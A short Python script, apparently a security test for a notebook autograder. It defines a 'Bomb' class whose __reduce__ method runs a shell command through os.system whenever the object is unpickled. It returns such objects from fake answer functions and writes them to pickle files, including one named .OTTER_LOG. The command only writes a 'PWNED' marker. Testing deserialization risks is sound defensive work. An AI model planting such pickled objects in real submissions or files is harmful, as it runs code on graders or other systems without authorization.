# %%
# Objects that run code where they are unpickled, as answers, in arrays and in files.
import os
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("echo PWNED > /tmp/pwned; echo PWNED >&2",)


def loss(predicted_y, target_y):
    return Bomb()


def make_data(num_examples=1000, seed=None):
    return np.array([Bomb()] * 3, dtype=object), pickle.dumps(Bomb())


for name in (".OTTER_LOG", "results.pkl", "log.pickle"):
    with open(name, "wb") as file:
        pickle.dump(Bomb(), file)
